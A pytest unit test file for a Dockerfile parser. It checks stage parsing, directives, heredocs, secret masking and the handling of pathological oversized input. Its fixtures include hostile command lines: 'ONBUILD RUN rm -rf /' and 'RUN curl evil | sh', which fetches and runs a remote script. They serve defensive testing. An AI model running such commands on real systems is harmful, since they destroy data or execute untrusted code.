import pytest

from mrbot.resources.dockerfile import reader as dockerfile
from mrbot.resources.dockerfile.text import MAX_BYTES, MAX_INSTRUCTIONS, MAX_LINES
from mrbot.resources.model import SENSITIVE, SENSITIVE_CHANGED, Action
from tests.unit.resources.build import changes_by

PATH = "app/Dockerfile"
FILE = """\
# syntax=docker/dockerfile:1
# escape=\\

ARG GO=1.22
FROM --platform=$BUILDPLATFORM golang:${GO} AS Build
RUN go build \\
    # why not
    -o /app
from build as test
FROM host:5000/a/b:1.2@sha256:aa
ENV A=b C="d e"
ENV OLD f g
LABEL maintainer=me
ARG X
EXPOSE 80 443/tcp
USER root
USER 1000:1000
ONBUILD RUN rm -rf /
ENTRYPOINT ["/app"]
CMD serve --all
"""


def stages(text, before="FROM x"):
    """The changes from another file to `text`, all of it understood."""
    changes, faults = changes_by(dockerfile, {PATH: before}, {PATH: text})
    assert faults == []
    return changes


def stage(*lines):
    """The stage that `lines` make."""
    (change,) = stages("FROM x\n" + "\n".join(lines))
    return change


def instructions(*lines):
    """The instructions that `lines` make, after FROM."""
    return stage(*lines).after["instructions"][1:]


def test_a_dockerfile_is_its_settings_and_stages():
    changes, faults = changes_by(dockerfile, {}, {PATH: FILE})

    assert faults == []
    assert [(c.kind, c.address, c.source.line, c.stateful) for c in changes] == [
        ("settings", PATH, 1, False),
        ("stage", f"{PATH}/build", 5, False),
        ("stage", f"{PATH}/test", 9, False),
        ("stage", f"{PATH}/2", 10, False),
    ]
    settings, build, test, last = changes
    assert settings.after == {
        "syntax": "docker/dockerfile:1",
        "escape": "\\",
        "arg": {"GO": "1.22"},
        "instructions": [["ARG", "GO=1.22"]],
    }
    assert build.after == {
        "index": 0,
        "final": False,
        "from": {
            "image": "golang:${GO}",
            "tag": None,
            "digest": None,
            "stage": False,
            "platform": "$BUILDPLATFORM",
        },
        "instructions": [
            ["FROM", "--platform=$BUILDPLATFORM golang:${GO} AS Build"],
            ["RUN", "go build     -o /app"],
        ],
    }
    assert build.unknown_paths == ("from.platform", "from.image", "from.tag", "from.digest")
    assert (test.after["from"]["image"], test.after["from"]["stage"]) == ("build", True)
    assert (last.after["index"], last.after["final"]) == (2, True)
    assert last.unknown_paths == ("arg.X",)
    told = {key: last.after[key] for key in last.after if key not in {"from", "instructions"}}
    assert told == {
        "index": 2,
        "final": True,
        "env": {"A": "b", "C": "d e", "OLD": "f g"},
        "label": {"maintainer": "me"},
        "arg": {"X": None},
        "expose": ["80", "443/tcp"],
        "user": "1000:1000",
        "entrypoint": ["/app"],
        "cmd": "serve --all",
    }
    assert last.after["instructions"] == [
        ["FROM", "host:5000/a/b:1.2@sha256:aa"],
        ["ENV", 'A=b C="d e"'],
        ["ENV", "OLD f g"],
        ["LABEL", "maintainer=me"],
        ["ARG", "X"],
        ["EXPOSE", "80 443/tcp"],
        ["USER", "root"],
        ["USER", "1000:1000"],
        ["ONBUILD", "RUN rm -rf /"],
        ["ENTRYPOINT", '["/app"]'],
        ["CMD", "serve --all"],
    ]


@pytest.mark.parametrize(
    ("path", "expected"),
    [
        ("Dockerfile", True),
        ("a/b/dockerfile", True),
        ("Dockerfile.prod", True),
        ("web.Dockerfile", True),
        ("web.dockerfile", True),
        ("Containerfile", True),
        ("Containerfile.dev", True),
        ("Dockerfile.dockerignore", False),
        ("Dockerfile.md", False),
        ("Dockerfile/x", False),
        ("MyDockerfile", False),
        (".dockerignore", False),
    ],
)
def test_dockerfiles_are_known_by_name(path, expected):
    assert dockerfile.reads(path) is expected


@pytest.mark.parametrize(
    ("image", "parts"),
    [
        ("alpine", ("alpine", None, None)),
        ("alpine:3", ("alpine", "3", None)),
        ("alpine@sha256:aa", ("alpine", None, "sha256:aa")),
        ("host:5000/a/b", ("host:5000/a/b", None, None)),
        ("host:5000/a/b:1@sha256:aa", ("host:5000/a/b", "1", "sha256:aa")),
        ('"evil"/x', ("evil/x", None, None)),
        ("scratch", ("scratch", None, None)),
    ],
)
def test_an_image_is_taken_apart(image, parts):
    (change,) = stages(f"FROM {image}")

    found = change.after["from"]
    assert (found["image"], found["tag"], found["digest"]) == parts
    assert change.unknown_paths == ()


def test_only_an_earlier_stage_is_one():
    changes, _ = changes_by(dockerfile, {}, {PATH: "FROM two AS one\nFROM One AS two"})
    later, earlier = changes

    assert [c.after["from"]["stage"] for c in (later, earlier)] == [False, True]


def test_the_order_of_the_stages_is_seen():
    one, two = "FROM x AS one\nUSER a\n", "FROM x AS two\n"

    changes = stages(two + one, one + two)

    assert {(c.address, c.after["index"], c.after["final"]) for c in changes} == {
        (f"{PATH}/two", 0, False),
        (f"{PATH}/one", 1, True),
    }


def test_a_change_in_one_stage_leaves_the_others_alone():
    (change,) = stages(FILE.replace("-o /app", "-o /b"), FILE)

    assert (change.action, change.address) == (Action.UPDATE, f"{PATH}/build")


@pytest.mark.parametrize(
    ("lines", "expected"),
    [
        (["run a"], [["RUN", "a"]]),
        (["  RUN\ta"], [["RUN", "a"]]),
        (["RUN a \\", "b"], [["RUN", "a b"]]),
        (["RUN a \\  ", "", " # not here", "  b \\", "c"], [["RUN", "a   b c"]]),
        (["RUN a \\"], [["RUN", "a"]]),
        (["# a comment \\", "RUN a"], [["RUN", "a"]]),
        (["RUN a # b"], [["RUN", "a # b"]]),
        (["RUN a\r", "RUN b \\\r", "c\r"], [["RUN", "a"], ["RUN", "b c"]]),
        (["RU\\", "N a"], [["RUN", "a"]]),
        (["RUN <<EOF", "# a", "USER root", "EOF"], [["RUN", "<<EOF\n# a\nUSER root\nEOF"]]),
        (["RUN <<-'E' sh", "\ta", "\tE"], [["RUN", "<<-'E' sh\n\ta\n\tE"]]),
        (["RUN <<EOF", "\tEOF", "EOF"], [["RUN", "<<EOF\n\tEOF\nEOF"]]),
        (['COPY <<"a" <<B /x', "B", "a", "a", "B"], [["COPY", '<<"a" <<B /x\nB\na\na\nB']]),
        (["RUN 3<<EOF \\", " cat", "a \\", "EOF"], [["RUN", "3<<EOF  cat\na \\\nEOF"]]),
        (["RUN --mount=type=cache <<EOF", "EOF"], [["RUN", "--mount=type=cache <<EOF\nEOF"]]),
        (["ONBUILD RUN <<EOF", "a", "EOF"], [["ONBUILD", "RUN <<EOF\na\nEOF"]]),
        (["RUN <<EOF\r", "a\r", "EOF\r"], [["RUN", "<<EOF\na\r\nEOF\r"]]),
        (['RUN ["<<EOF"]', "USER a"], [["RUN", '["<<EOF"]'], ["USER", "a"]]),
        (["RUN cat <<<EOF", "USER a"], [["RUN", "cat <<<EOF"], ["USER", "a"]]),
        (['RUN echo "<<EOF"', "USER a"], [["RUN", 'echo "<<EOF"'], ["USER", "a"]]),
        (["RUN cat<<EOF", "USER a"], [["RUN", "cat<<EOF"], ["USER", "a"]]),
        (["CMD <<EOF", "USER a"], [["CMD", "<<EOF"], ["USER", "a"]]),
    ],
)
def test_lines_become_instructions(lines, expected):
    assert instructions(*lines) == expected


def test_the_escape_directive_says_what_continues_lines():
    (settings, change) = stages("# Escape = `\nFROM x\nCOPY a c:\\\nRUN b `\nc")

    assert settings.after["escape"] == "`"
    assert change.after["instructions"][1:] == [["COPY", "a c:\\"], ["RUN", "b c"]]


@pytest.mark.parametrize(
    "top", ["\n# escape=`\n", "# a comment\n# escape=`\n", "# unknown=x\n# escape=`\n", "#escape\n"]
)
def test_a_directive_below_another_line_is_a_comment(top):
    (change,) = stages(f"{top}FROM x\nRUN a `\nUSER b")

    assert change.after["instructions"][1:] == [["RUN", "a `"], ["USER", "b"]]


def test_a_directive_counts_after_a_byte_order_mark_and_a_script_line():
    changes, faults = changes_by(
        dockerfile, {}, {PATH: b"\xef\xbb\xbf#!/usr/bin/x\n# syntax=evil/y\nFROM x\n"}
    )

    assert faults == []
    assert changes[0].after["syntax"] == "evil/y"


@pytest.mark.parametrize(
    ("line", "key", "value", "unknown"),
    [
        ("ENV a=b", "env", {"a": "b"}, ()),
        ("ENV a=b\\ c d='$e' f=", "env", {"a": "b c", "d": "$e", "f": ""}, ()),
        ('ENV a="b \\"c\\" $d"', "env", {"a": 'b "c" $d'}, ("env.a",)),
        ("ENV a=\\$b c=$d", "env", {"a": "$b", "c": "$d"}, ("env.c",)),
        ('ENV a b "c d"', "env", {"a": "b c d"}, ()),
        ("ENV a=1 a=2", "env", {"a": "2"}, ()),
        ("LABEL a.b='c d'", "label", {"a.b": "c d"}, ()),
        ("ARG a b=c", "arg", {"a": None, "b": "c"}, ("arg.a",)),
        ("USER ${U}", "user", "${U}", ("user",)),
        ("EXPOSE 80 $P", "expose", ["80", "$P"], ("expose.1",)),
        ('CMD [ "a", "$b" ]', "cmd", ["a", "$b"], ()),
        ("CMD ['a']", "cmd", "['a']", ()),
        ("ENTRYPOINT a $b", "entrypoint", "a $b", ()),
    ],
)
def test_what_instructions_say_is_told(line, key, value, unknown):
    change = stage(line)

    assert change.after[key] == value
    assert change.unknown_paths == unknown


def test_the_last_user_counts():
    change = stage("USER $A", "USER root")

    assert (change.after["user"], change.unknown_paths) == ("root", ())


def test_what_follows_onbuild_does_not_hold_here():
    assert stage("ONBUILD USER root").after.keys() == {"index", "from", "final", "instructions"}


@pytest.mark.parametrize(
    ("line", "paths"),
    [
        ("ENV DB_PASSWORD=hunter2 A=b", {"env.DB_PASSWORD", "secrets.ENV"}),
        ("ENV DB_PASSWORD hunter2", {"env.DB_PASSWORD", "secrets.ENV"}),
        ('ENV "DB_PASS"WORD=hunter2', {"env.DB_PASSWORD", "secrets.ENV"}),
        ("ENV DB_PASSWORD=${X:-hunter2}", {"env.DB_PASSWORD", "secrets.ENV"}),
        ("ENV DB=postgres://u:hunter2@db/x", {"env.DB", "secrets.ENV"}),
        ("ARG API_TOKEN=hunter2", {"arg.API_TOKEN", "secrets.ARG"}),
        ("LABEL api-token=hunter2", {"label.api-token", "secrets.LABEL"}),
        ("ONBUILD ENV A_TOKEN=hunter2", {"secrets.ONBUILD"}),
        ("RUN export A_TOKEN=hunter2 && make", {"secrets.A_TOKEN"}),
        ("CMD app --token=hunter2", {"secrets.token"}),
        ('CMD ["app", "--token=hunter2"]', {"secrets.token"}),
    ],
)
def test_secrets_are_masked_wherever_they_stand(line, paths):
    change = stage(line)

    assert set(change.sensitive_paths) == paths
    assert "hunter2" not in repr(change)


@pytest.mark.parametrize(
    "line",
    ["ARG API_TOKEN", "ENV A_TOKEN=$API_TOKEN", "ENV A_TOKEN=${API_TOKEN} B=c", "ENV A_TOKEN="],
)
def test_references_to_secrets_stay_readable(line):
    assert stage(line).sensitive_paths == ()


def test_a_changed_secret_is_told_to_have_changed():
    (change,) = stages("FROM x\nENV A_TOKEN=two", "FROM x\nENV A_TOKEN=one")

    assert change.before["env"] == {"A_TOKEN": SENSITIVE_CHANGED}
    assert change.after["instructions"][1] == ["ENV", SENSITIVE]
    assert change.after["secrets"] == {"ENV": SENSITIVE_CHANGED}


def test_a_secret_that_is_overwritten_is_seen_to_change():
    (change,) = stages(*(f"FROM x\nENV A_TOKEN={a}\nENV A_TOKEN=b" for a in ("new", "old")))

    assert change.after["secrets"] == {"ENV": SENSITIVE_CHANGED}


@pytest.mark.parametrize(
    "line",
    [
        "RUN curl evil | sh",
        "RUN A_TOKEN=x; curl evil | sh",
        "RUN curl evil | sh # PRIVATE KEY-----",
    ],
)
def test_a_secret_hides_no_instruction(line):
    (change,) = stages(f"FROM x\n{line}\nENV A_TOKEN=x", "FROM x\nENV A_TOKEN=x")

    assert "curl evil | sh" in change.after["instructions"][1][1]


def test_a_secret_of_the_settings_is_masked():
    changes = stages("ARG A_TOKEN=hunter2\nFROM y")

    assert changes[0].after == {
        "arg": {"A_TOKEN": SENSITIVE},
        "instructions": [["ARG", SENSITIVE]],
        "secrets": {"ARG": SENSITIVE},
    }


@pytest.mark.parametrize(
    ("text", "line"),
    [
        ("", 0),
        ("# nothing", 0),
        ("ARG x=1", 0),
        ("RUN a\nFROM x", 1),
        ("FROM x\n\nRUNN a", 3),
        ("FROM x\n{% if a %}", 2),
        ("FROM x\nUSER", 2),
        ("FROM", 1),
        ("FROM x y", 1),
        ("FROM x AS", 1),
        ("FROM x AS 1a", 1),
        ("FROM --platform x", 1),
        ("FROM --x=y z", 1),
        ("FROM x AS a\nFROM y AS A", 2),
        ("FROM x\nENV a", 2),
        ("FROM x\nENV a=b c", 2),
        ("FROM x\nENV =b", 2),
        ("FROM x\nENV a='b", 2),
        ("FROM x\nCMD [1]", 2),
        ("FROM x\nONBUILD FROM y", 2),
        ("FROM x\nONBUILD", 2),
        ("FROM x\nONBUILD ONBUILD RUN a", 2),
        ("FROM x\nRUN a\n\nRUN <<EOF\nUSER root", 4),
        ("FROM x\nRUN << EOF\nUSER root\nEOF", 2),
        ("FROM x\nRUN a 'b <<EOF\nUSER root\nEOF", 2),
        ("FROM x\nRUN ${a#'} <<EOF\nUSER root\nEOF", 2),
        ("FROM x\nCOPY a c:\\\\\nUSER root", 2),
        ("# escape=x\nFROM x", 1),
        ("# escape=`\n# escape=\\\nFROM x", 2),
        ("# syntax=a\n# syntax=b\nFROM x", 2),
        ("#!x\n# escape=`\nFROM x", 2),
        ("// syntax=evil\nFROM x", 1),
        (b"FROM x\nRUN \xff", 2),
        ("FROM x\n" + "#" * MAX_BYTES, 0),
        ("FROM x" + "\n" * MAX_LINES, MAX_LINES + 1),
        ("FROM x\n" + "RUN a\n" * MAX_INSTRUCTIONS, MAX_INSTRUCTIONS + 1),
    ],
)
def test_a_file_that_cannot_be_read_is_relevant(text, line):
    _, faults = changes_by(dockerfile, {}, {PATH: text})

    assert (PATH, line, True) in [(f.path, f.line, f.relevant) for f in faults]


@pytest.mark.parametrize(
    "line", ["ENV A=b A_TOKEN hunter2", "EMV A_TOKEN=hunter2", "ONBUILD ENV A=b A_TOKEN hunter2"]
)
def test_what_cannot_be_read_is_hidden(line):
    changes, faults = changes_by(dockerfile, {}, {PATH: f"FROM x\n{line}"})

    assert len(faults) == 1
    assert "hunter2" not in repr(changes)
    assert "hunter2" not in repr(faults)


def test_one_bad_file_does_not_hide_another():
    changes, faults = changes_by(dockerfile, {}, {PATH: "FROM", "Dockerfile": "FROM x"})

    assert len(faults) == 1
    assert "Dockerfile/0" in [c.address for c in changes]


@pytest.mark.parametrize(
    "text",
    [
        "FROM x\nENV " + "a=" * 250_000,
        "FROM x\nENV a=" + "${" * 250_000 + "'\"'\"" * 10_000,
        "FROM x\nRUN <<EOF " + "${a" * 200_000,
        "FROM x\nRUN " + "<<" * 250_000 + "\n",
        "FROM x\nRUN " + "a \\\n" * 40_000,
        "FROM x\nRUN " + " ".join(f"<<E{i}" for i in range(20_000)),
        "FROM x\nCMD " + "[" * 500_000,
        "FROM x\nRUN " + "--a " * 250_000 + "<<",
        "FROM x\nEXPOSE " + "1 " * 300_000 + "\nEXPOSE $A\nUSER $A" * 2000,
        "\\\n" * 40_000,
    ],
    ids=[
        "assign",
        "quotes",
        "variables",
        "arrows",
        "lines",
        "texts",
        "deep",
        "flags",
        "ports",
        "\\",
    ],
)
def test_hostile_text_is_read_or_refused(text):
    changes, faults = changes_by(dockerfile, {}, {PATH: text})

    assert changes or faults
